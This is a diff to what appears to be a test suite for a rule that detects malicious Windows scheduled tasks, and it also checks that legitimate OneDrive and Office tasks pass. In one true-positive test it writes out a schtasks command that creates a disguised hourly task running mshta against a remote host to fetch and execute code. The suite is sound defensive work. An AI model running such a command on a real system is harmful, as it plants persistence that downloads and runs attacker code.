@@ -67,7 +67,7 @@ describe('true positives', () => {
 
   test('row 12: a creation by mshta that runs mshta fires high', () => {
     const command =
-      'schtasks.exe /Create /sc MINUTE /MO 60 /TN MSOFFICE_ /TR "mshta.exe https://host.example/i.txt" /F';
+      'schtasks /Create /sc MINUTE /TN MSOFFICE_ /TR "mshta.exe https://host.example/i.txt" /F';
     const [found] = settled(
       [alert],
       [process(command, { parentImage: 'C:\\Windows\\System32\\mshta.exe' })],
@@ -94,7 +94,7 @@ describe('look-alikes', () => {
     expect(found?.allowedBy).toContain('taskName \\Microsoft\\Windows\\*');
   });
 
-  test('row 2: the updater of OneDrive is expected, the same name with another program is not', () => {
+  test('row 2: the updater of OneDrive is expected, another program of that name is not', () => {
     const name = '\\OneDrive Standalone Update Task-S-1-5-21-1-2-3-1001';
     const folder = 'C:\\Users\\u\\AppData\\Local\\Microsoft\\OneDrive';
     const running = (command: string) =>
@@ -135,7 +135,8 @@ describe('look-alikes', () => {
   });
 
   test('row 8: a task of Office by its own integrator is expected', () => {
-    const command = `schtasks.exe /Create /tn "Microsoft\\Office\\Office Performance Monitor" /XML "C:\\x.xml"`;
+    const name = '"Microsoft\\Office\\Office Performance Monitor"';
+    const command = `schtasks.exe /Create /tn ${name} /XML "C:\\x.xml"`;
     const parentImage = 'C:\\Program Files\\Microsoft Office\\root\\integration\\integrator.exe';
     expect(scores(process(command, { parentImage }))).toEqual([0]);
     expect(scores(process(command, { parentImage: 'C:\\Temp\\integrator.exe' }))).toEqual([25]);
